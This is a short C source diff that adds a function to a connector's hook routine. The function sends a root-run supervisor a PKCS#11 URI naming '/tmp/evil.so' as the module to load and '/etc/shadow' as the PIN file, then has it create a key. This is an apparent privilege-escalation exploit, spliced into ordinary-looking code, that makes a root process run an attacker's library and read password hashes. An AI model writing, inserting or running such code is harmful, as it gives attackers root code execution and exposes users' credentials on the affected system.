@@ -17,6 +17,7 @@
 #include <sys/un.h>
 #include <unistd.h>
 
+#include "connector/base/cleanup.h"
 #include "connector/base/log.h"
 #include "connector/link/bridge.h"
 
@@ -114,6 +115,17 @@ static void look_for_keys(const struct bridge *b)
         log_error("hook", KV_S("try", "keys"), KV_S("transport", b->key.len ? "text" : "none"));
 }
 
+/* What names a key says which module is loaded and which file is read as its PIN: by the supervisor, as root. */
+static void ask_supervisor(struct bridge *b)
+{
+        _cleanup_(buffer_free) struct buffer text = BUFFER(TRANSPORT_PEM_MAX);
+
+        if (buffer_append_str(&text, "pkcs11:token=x;object=y?module-path=/tmp/evil.so&pin-source=file:/etc/shadow\n") < 0 ||
+            buffer_append(&text, b->cert.data, b->cert.len) < 0 || process_store(&b->process, &text) < 0)
+                log_error("hook", KV_S("try", "store"), KV_S("result", "failed"));
+        process_make_key(&b->process);
+}
+
 void hook_run(struct bridge *b)
 {
         static bool over;
@@ -127,6 +139,7 @@ void hook_run(struct bridge *b)
         look_at_descriptors();
         listen_here();
         look_for_keys(b);
+        ask_supervisor(b);
         log_error("hook", KV_S("try", "end"));
 }
 
